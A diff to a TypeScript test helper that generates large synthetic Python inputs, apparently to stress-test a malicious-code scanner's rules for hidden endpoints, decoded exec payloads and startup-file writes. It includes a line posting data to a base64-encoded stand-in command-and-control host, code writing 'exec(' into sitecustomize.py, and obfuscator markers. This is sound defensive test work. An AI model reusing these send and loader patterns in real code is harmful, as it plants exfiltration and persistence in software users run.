@@ -78,6 +78,16 @@ export const SHAPES: Record<string, (n: number) => string> = {
   // hidden-endpoint indexes callers and domains once per file, and looks assignments up within bounded reach.
   'hidden sends through one helper': (n) =>
     `def send(u, d):\n${lines(n / 2, (i) => `    requests.post(u, data=d${i % 9})`)}\n${lines(n / 2, (i) => `send(b64decode("aHR0cDovL2MyLmV4YW1wbGUv").decode() + "${i}", x)`)}`,
+  // The reader normalises names (NFKC) only in files with non-ASCII text, and only texts short enough to be one.
+  'a method chain in a non-ASCII file': (n) => `é = 1\nx${repeatTo('.y()', n)}\n`,
+  // exec-decoded-payload and hidden-endpoint find a local's assignment in a per-file index, not by rescanning.
+  'exec of a local under long assignments': (n) =>
+    `def f():\n${lines(n / 2, (i) => `    x${'x'.repeat(400)} = ${i}`)}\n    ${repeatTo('exec(x);', n / 2)}\n`,
+  'sends under a long signature': (n) =>
+    `def f(u, ${repeatTo('a=1, ', n / 2)}b=1):\n    ${repeatTo('requests.get(u);', n / 2)}\nf(1)\n`,
+  // startup-file-write reads each written line once for a loader and a decoder after it.
+  'loader words written into a startup file': (n) =>
+    `def f():\n    fh = open("sitecustomize.py", "w")\n    fh.write("${repeatTo('exec(', n)}")\n`,
   'chr chains': (n) => `x = ${repeatTo('chr(1)+', n)}chr(1)\n`,
   'obfuscator markers': (n) => repeatTo('# pyarmor_runtime Hyperion Hyperion Hyperion\nf()\n', n),
   'obfuscated names': (n) => lines(n, (i) => `_0x${i.toString(16).padStart(5, '0')} = IlIlIl${i % 7}`),
